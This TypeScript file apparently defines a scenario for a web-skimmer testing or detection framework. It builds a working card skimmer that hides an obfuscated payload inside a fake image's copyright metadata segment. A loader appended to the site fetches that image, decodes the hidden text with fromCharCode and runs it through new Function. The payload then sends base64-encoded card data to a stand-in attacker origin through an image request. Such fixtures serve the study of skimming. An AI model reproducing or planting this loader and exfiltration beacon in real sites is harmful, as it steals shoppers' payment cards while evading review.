import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'image-metadata-loader',
  why: "The code is the copyright note in a picture's metadata; the loader reads the picture and runs the note (published 2020).",
  covers: ['injection: image metadata', 'obfuscation: eval', 'obfuscation: fromCharCode'],
  base: 'direct',
  install: (site) => {
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/exif.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    const note = Buffer.from(`Copyright\0${Array.from(code, (c) => c.charCodeAt(0).toString(36)).join('.')}`);
    const size = Buffer.alloc(4);
    size.writeUInt16BE(0xffed, 0);
    size.writeUInt16BE((note.length + 2) & 0xffff, 2);
    site.serve('shop/media/hero.png', {
      body: Buffer.concat([Buffer.from('ffd8', 'hex'), size, note, Buffer.from('ffd9', 'hex')]),
    });
    site.append(js`fetch('/media/hero.png').then(function (r) { return r.arrayBuffer(); }).then(function (b) {
  var t = String.fromCharCode.apply(null, new Uint8Array(b)).split('Copyright\0')[1].replace(/[^0-9a-z.]+$/, '');
  new Function(t.split('.').map(function (c) { return String.fromCharCode(parseInt(c, 36)); }).join(''))();
});`);
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
